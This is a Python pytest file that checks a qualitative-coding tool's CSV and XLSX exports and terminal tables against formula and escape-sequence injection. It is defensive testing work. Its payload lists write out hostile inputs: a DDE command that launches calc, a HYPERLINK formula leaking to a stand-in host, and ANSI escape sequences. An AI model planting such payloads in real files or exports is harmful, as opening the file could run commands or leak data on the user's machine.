"""Issue 11.2: text from users and files never becomes a live spreadsheet formula.

A formula payload is put in a code's name and definition, the document's name, its
attribute value and every memo; each spreadsheet export is read back with openpyxl (and the
sheets' raw XML) or the csv module: no cell is a formula, every xlsx text cell holds the
payload as typed, and every csv cell that starts like a formula is neutralised (OWASP).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from qualcode.cli import app
from qualcode.export.cells import FORMULA_START
from tests.hostile.export_kit import build_project, run, runner

# slow: every payload goes through real csv/xlsx/docx exports
pytestmark = pytest.mark.slow

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak","click")',
    "=cmd|' /c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # a full-width equals sign, which some spreadsheets read as one too
]
IDS = ["hyperlink", "dde", "plus", "minus", "at", "tab", "cr", "fullwidth"]
FORMATS = {
    "codings.csv": ["export", "codings"],
    "codings.xlsx": ["export", "codings"],
    "summary.xlsx": ["export", "summary", "--layer", "coder"],
}


@pytest.fixture(scope="module", params=PAYLOADS, ids=IDS)
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple:
    folder = tmp_path_factory.mktemp("formula")
    return build_project(folder / "p.db", request.param), request.param


def _xlsx_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("name", list(FORMATS))
def test_no_payload_becomes_a_formula(hostile: tuple, name: str) -> None:
    project, payload = hostile
    target = project.with_name(f"{len(list(project.parent.iterdir()))}-{name}")
    code, _, err = run(project, *FORMATS[name], "-o", str(target))
    assert code == 0, err
    seen = payload.strip("\r\n")  # a line break cannot start a one-line name
    if name.endswith(".xlsx"):
        cells = _xlsx_cells(target)
        assert all(c.data_type != "f" for c in cells)
        with zipfile.ZipFile(target) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert not any(re.search(rb"<f[ >]", archive.read(n)) for n in sheets)
        texts = [c for c in cells if isinstance(c.value, str) and seen.strip() in c.value]
        assert texts, "the payload is in the export, as text"
        starting = [c for c in texts if c.value.startswith(FORMULA_START)]
        assert starting and all(c.data_type == "s" and c.quotePrefix for c in starting)
    else:
        with target.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)]
        assert any(c.startswith("'") and seen.strip() in c for c in cells)


STDOUT_CSV = {
    "docs-list": ["docs", "list", "-f", "csv"],
    "report-quotes": ["report", "quotes", "--layer", "coder", "-f", "csv"],
    "report-crosstab": ["report", "crosstab", "municipality", "-f", "csv"],
    "code-list": ["code", "list", "-f", "csv"],
}


@pytest.mark.parametrize("command", list(STDOUT_CSV))
def test_csv_on_stdout_is_neutralised_too(hostile: tuple, command: str) -> None:
    """``--format csv`` is what people redirect into a .csv file and open in a spreadsheet."""
    project, payload = hostile
    code, out, err = run(project, *STDOUT_CSV[command])
    assert code == 0, err
    cells = [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    if command != "code-list":
        assert any(c.startswith("'") and payload.strip("\r\n") in c for c in cells)


TERMINAL_NAMES = {
    "rich-markup": "[bold red]x[/] [link=https://evil.invalid]click[/link]",
    "escape-sequence": "a\x1b]0;retitled\x07b\x1b[8mhidden",
}


@pytest.mark.parametrize("name", list(TERMINAL_NAMES.values()), ids=list(TERMINAL_NAMES))
def test_terminal_tables_show_names_as_they_are(tmp_path: Path, name: str) -> None:
    """A table on the terminal neither obeys rich markup in a name nor passes on the
    control sequences in it (window title, hidden text)."""
    project = build_project(tmp_path / "p.db", name)
    result = runner.invoke(app, ["-p", str(project), "docs", "list"], env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    # control characters never reach a document name now (issue 11.6): the kit drops them
    shown = "".join(ch for ch in name if ch.isprintable())
    assert f"{shown}.txt" in result.stdout
